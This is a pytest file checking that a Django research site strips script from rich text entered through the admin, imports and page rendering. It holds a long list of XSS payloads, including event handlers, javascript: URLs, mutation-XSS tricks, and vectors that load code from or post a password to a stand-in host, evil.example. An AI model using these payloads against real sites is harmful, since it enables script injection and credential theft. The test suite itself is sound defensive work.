"""Rich text carries no script, by whatever door it comes in and whichever page shows it."""

import re
import time

import pytest
from bs4 import BeautifulSoup

from publications.models import Publication
from research_hub.importing.apply import Applied, Planning
from research_hub.importing.models import Batch
from research_hub.importing.records import Record
from research_hub.languages.text import RICH_TAGS, clean_html
from tests.admin.cast import address, form_at, press
from tests.factories import make_event, make_publication, make_topic, make_type, make_user

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><p><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=' java\tscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='&Tab;javascript&colon;alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='\x01javascript:alert(1)'>a</a>",
    "<a href='blob:https://x/1'>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    "<a href=\"https://x.example\" onclick=alert(1) style='x:expression(1)'>a</a>",
    "<a href='https://x.example\" onmouseover=\"alert(1)'>a</a>",
    "<p style='background:url(javascript:alert(1))'>a</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p id=x class=admin name=y tabindex=1 contenteditable>a</p>",
    "<td background=javascript:alert(1)>a</td>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><script>alert(1)</script>",
    "<p onclick='x'>kept</p>",
    "<title></title><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>{{ 7*7 }}{% debug %}${7*7}</p>",
    "<figure><img srcset='x 1x' onerror=alert(1)></figure>",
    "<a href=//evil.example ping=//evil.example target=_blank>a</a>",
    "\x00<s\x00cript>alert(1)",
    "<table><tr><td colspan='1\" onclick=\"alert(1)'>a</td></tr></table>",
    "<h2 xmlns:x='a'><x:script>alert(1)</x:script></h2>",
    "<a xlink:href=javascript:x>a</a>",
]
ALLOWED = {"a": {"href", "rel"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}}
LINK = re.compile(r"(?i)(https?:|mailto:|//|/|#|[^:]*$)")
ALL = "".join(
    f"<p>word{n}</p>{vector}" for n, vector in enumerate(VECTORS) if "\0" not in vector
)  # no field takes that


def wrong_in(html: str) -> list[str]:
    """What of it a page of ours may not carry."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        extra = tag.attrs.keys() - ALLOWED.get(tag.name, set())
        if tag.name not in RICH_TAGS or extra or not LINK.match(tag.get("href", "")):
            found.append(str(tag))
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_is_left(vector):
    clean = clean_html(f"<p>before</p>{vector}<p>after</p>")
    assert wrong_in(clean) == []
    assert clean_html(clean) == clean  # what is clean is not made anything else by cleaning it again
    assert "before" in clean


@pytest.mark.parametrize(
    "nested", ["<p>", "<blockquote>", "<table>", "<ul><li>", "<a href='x'>", "<", "&", "<!--", "<svg>"]
)
def test_a_text_made_to_take_long_does_not(nested):
    began = time.process_time()
    clean_html(nested * 5_000)
    assert time.process_time() - began < 5


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "es"])
def test_what_is_typed_in_the_admin_is_clean_when_it_is_stored_and_when_it_is_shown(client, language):
    client.force_login(make_user("publisher"))
    words = {"title_es": "Ríos", "summary_es": "x"}
    for record, field, place in [
        (make_topic(), "intro", "main .lead"),
        (make_publication(published=False, topics=[make_topic("Air", "Aire")], **words), "body", "main .prose"),
        (make_event(published=False, topics=[make_topic("Earth", "Tierra")], **words), "body", "main .prose"),
    ]:
        url, name = address(record, language), f"{field}_{language}"
        assert press(client, url, sent=form_at(client, url), **{name: ALL}).status_code == 302
        record.refresh_from_db()
        stored = getattr(record, name)
        assert wrong_in(stored) == [] and "word0" in stored
        type(record).objects.filter(pk=record.pk).update(**{name: ALL})  # as it stood there before it was cleaned
        if field == "body":
            record.refresh_from_db()
            record.publish(by=make_user())
            type(record).objects.filter(pk=record.pk).update(**{name: ALL})
        page = client.get(record.get_absolute_url(language))
        (shown,) = BeautifulSoup(page.content, "html.parser").select(place)
        for frame in shown.select("div.table"):  # ours, so that a wide table scrolls
            frame.unwrap()
        assert wrong_in(shown.decode_contents()) == []


@pytest.mark.django_db
def test_what_is_imported_is_clean():
    make_type("report")
    record = Record(
        id="1", place="1", title={"en": "Rivers"}, date="2017", type="RPRT", summary={"en": "x"}, body={"en": ALL}
    )
    batch = Batch.objects.create(source="old-site", file="old.ris", made_by=make_user("administrator"))
    Applied(Planning(batch, lambda: iter([record])).run(), by=batch.made_by).run(lambda done, total: None)
    assert wrong_in(Publication.objects.get().body_en) == []
    assert "word0" in Publication.objects.get().body_en


@pytest.mark.django_db
@pytest.mark.parametrize(
    "vector", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title><svg onload=alert(1)>"]
)
def test_a_plain_field_is_never_mark_up(client, vector):
    """In no page, head, feed, piece of JSON or list of the admin."""
    topic = make_topic(f"Water {vector}", slug_en="water")
    report = make_publication(
        f"Rivers {vector}", slug_en="rivers", summary_en=vector, subtitle_en=vector, topics=[topic]
    )
    client.force_login(make_user("publisher"))
    for path in [
        "/",
        "/topics/",
        "/topics/water/",
        "/publications/rivers/",
        "/search/?q=rivers",
        "/activity/feed.atom",
        "/admin/",
        "/admin/publications/publication/",
        address(report),
        address(report, view="history"),
        "/admin/topics/topic/",
        f"/admin/publications/publication/{report.pk}/delete/",
        "/admin/translation/",
    ]:
        body = client.get(path).content.decode()
        assert vector not in body, path
